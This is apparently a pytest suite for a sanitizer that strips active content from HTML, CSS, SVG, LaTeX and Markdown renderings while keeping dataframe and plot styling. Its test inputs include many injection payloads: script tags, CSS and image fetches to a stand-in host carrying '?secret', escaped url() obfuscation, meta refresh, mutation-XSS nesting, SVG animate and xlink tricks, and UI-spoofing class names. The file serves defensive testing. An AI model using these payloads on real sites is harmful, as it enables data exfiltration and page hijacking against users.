"""HTML, CSS, SVG and LaTeX above public: what people need stays, nothing acts."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from strongroom_lab import markup, mime
from strongroom_lab.values import Unfit

ACTIVE = re.compile(
    r"https?:|//e|javascript:|\bon\w+\s*=|<\s*(script|form|meta|iframe|object|link|img|a)\b|url\(|@import|expression",
    re.IGNORECASE,
)
ATTACKS = [
    "<script>x</script>",
    '<img src="http://e/?secret">',
    '<svg><use href="http://e/"/></svg>',
    '<td background="http://e/">',
    '<p style="background:url(http://e/)">',
    '<p style="background:\\75\\72\\6c(http://e/)">',
    "<p style=\"background: image-set('http://e/' 1x)\">",
    '<p style="color: red; position: fixed; inset: 0">',
    "<meta http-equiv=refresh content='0;http://e/'>",
    '<a href="javascript:x">',
    '<form action="/hub/logout"><button>',
    "<math><mtext><style><img src=http://e/></style></mtext></math>",
    '<table class="x" onmouseover="x">',
    "<style>@import 'http://e/';</style>",
    "<style>#T_a { background: url(http://e/) }</style>",
    "<style>body { background: red } #T_a, .jp-Toolbar { color: red }</style>",
    "<style>#T_a[title^='x'] { color: red }</style>",
    "<style>#T_a { color: red }</style><style>#T_a::after { content: 'lie' }</style>",
    "<style>#T_a { font-family: '</style><script>x</script>' }</style>",
    '<div class="jp-Dialog" id="jp-main-content-panel">',
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_html_does_nothing(attack: str) -> None:
    clean = markup.html(f"<p>seen</p>{attack}")
    assert "seen" in clean
    assert not ACTIVE.search(clean)
    for word in ("position", "jp-", "body", "content", "[title"):
        assert word not in clean


def test_html_without_text_gives_way() -> None:
    with pytest.raises(Unfit):
        markup.html('<div id="plot"></div><script>draw()</script>')


def test_a_dataframe_survives() -> None:
    table = (
        '<table border="1" class="dataframe"><thead><tr style="text-align: right"><th></th><th>a</th></tr></thead>'
        "<tbody><tr><th>0</th><td>1</td></tr></tbody></table>"
    )
    assert markup.html(table) == table


def test_a_styled_dataframe_keeps_its_colours() -> None:
    source = (
        '<style type="text/css">#T_1a_row0_col0, #T_1a_row1_col0 {background-color: #ff0000; color: #f1f1f1;}'
        "#T_1a_row0_col1 {width: 10em; background: linear-gradient(90deg, #d65f5f 50.0%, transparent 50.0%);}"
        '</style><table id="T_1a"><thead><tr><th class="blank level0">&nbsp;</th>'
        '<th id="T_1a_level0_col0" class="col_heading level0 col0">a</th></tr></thead>'
        '<tbody><tr><td id="T_1a_row0_col0" class="data row0 col0 jp-Evil">1</td></tr></tbody></table>'
    )
    clean = markup.html(source)
    assert "#T_1a_row0_col0, #T_1a_row1_col0 { background-color: #ff0000; color: #f1f1f1 }" in clean
    assert "linear-gradient(90deg, #d65f5f 50.0%, transparent 50.0%)" in clean
    assert '<td id="T_1a_row0_col0" class="data row0 col0">1</td>' in clean


def test_rich_keeps_its_colours() -> None:
    clean = markup.html('<pre style="white-space:pre;line-height:normal"><span style="color: #008000">ok</span></pre>')
    assert '<span style="color: #008000">ok</span>' in clean


@given(st.text(max_size=200))
@example("IMAGE")
@example("-image-set('x' 1x)")
@example("(url(x))")
def test_css_values_never_fetch(value: str) -> None:
    for made in (f"a{value}", f"url({value})", f"red {value}"):
        try:
            clean = markup.css_value(made)
        except Unfit:
            continue
        # a word alone is no address
        bare = re.sub(r"\"[^\"]*\"|\\[{}]", "", clean)  # strings are names of fonts
        assert not re.search(r"[@;{}<]", bare)
        assert {name.lower() for name in re.findall(r"([\w-]+)\(", bare)} <= markup.FUNCTIONS


@pytest.mark.parametrize(
    "value",
    ["url('http://e/')", 'url("x")', "image-set('x' 1x)", "var(--x)", "attr(title)", "1px; color: red"],
)
def test_css_values_that_fetch_or_look_up_are_refused(value: str) -> None:
    with pytest.raises(Unfit):
        markup.css_value(value)
    assert markup.declarations(f"background: {value}; color: blue").endswith("color: blue")
    assert "(" not in markup.declarations(f"background: {value}")


SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">{}</svg>'
)


@pytest.mark.parametrize(
    "attack",
    [
        "<script>x</script>",
        '<rect onload="x" width="1"/>',
        "<style>@import 'http://e/'</style>",
        '<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>',
        '<image xlink:href="http://e/x.png"/>',
        '<image href="data:image/svg+xml;base64,AAAA"/>',
        '<use xlink:href="http://e/#a"/>',
        '<a xlink:href="http://e/"><path d="M0 0"/></a>',
        '<rect fill="url(http://e/#a)"/>',
        '<rect style="fill: url(http://e/#a)"/>',
        '<rect style="fill: red; background: \\75rl(http://e/)"/>',
        '<animate attributeName="href" to="http://e/"/>',
        '<set attributeName="onclick" to="x"/>',
        '<x:script xmlns:x="http://www.w3.org/2000/svg">x</x:script>',
    ],
)
def test_drawings_do_nothing(attack: str) -> None:
    clean = markup.svg(SVG.format(attack + '<path d="M0 0"/>'))
    clean = clean.replace('xmlns="http://www.w3.org/2000/svg"', "").replace(
        'xmlns:xlink="http://www.w3.org/1999/xlink"', ""
    )
    assert "<path" in clean
    assert not re.search(r"http|script|import|foreign|onload|onclick|<a\b|animate|75rl", clean)


def test_a_drawing_keeps_its_own_parts() -> None:
    inner = (
        '<defs><clipPath id="p1"><rect x="0" y="0" width="5" height="5"/></clipPath></defs>'
        '<g clip-path="url(#p1)" style="stroke: #000000; clip-path: url(#p1)"><use xlink:href="#p1"/></g>'
        '<image xlink:href="data:image/png;base64,iVBORw0KGgo=" width="1"/>'
    )
    clean = markup.svg(SVG.format(inner))
    assert clean.count("url(#p1)") == 2
    assert 'xlink:href="#p1"' in clean
    assert "data:image/png;base64,iVBORw0KGgo=" in clean


@pytest.mark.parametrize(
    "source",
    ["", "<svg", "<p/>", '<!DOCTYPE s [<!ENTITY a "b">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>', "<svg/>"],
)
def test_what_is_no_drawing_is_refused(source: str) -> None:
    with pytest.raises(Unfit):
        markup.svg(source)


def test_formulas() -> None:
    assert markup.latex(r"$\displaystyle \frac{x^{2}}{\sqrt{2}}$")
    for outside in (r"\href{http://e}{x}", r"\url{http://e}", r"\includegraphics{x}", r"\require{html}", r"\def\x{y}"):
        with pytest.raises(Unfit):
            markup.latex(outside)
        assert "\\" not in markup.spoken(outside)


def test_markdown_is_its_source() -> None:
    """A page would render the HTML in it, with links that carry data in their addresses."""
    source = "**bold** <meta http-equiv=refresh content='0;http://e/?d'> [go](http://e/?d)"
    shown = mime.guarded({"text/markdown": source, "text/plain": "<Markdown object>"})
    assert shown.data == {"text/plain": source}
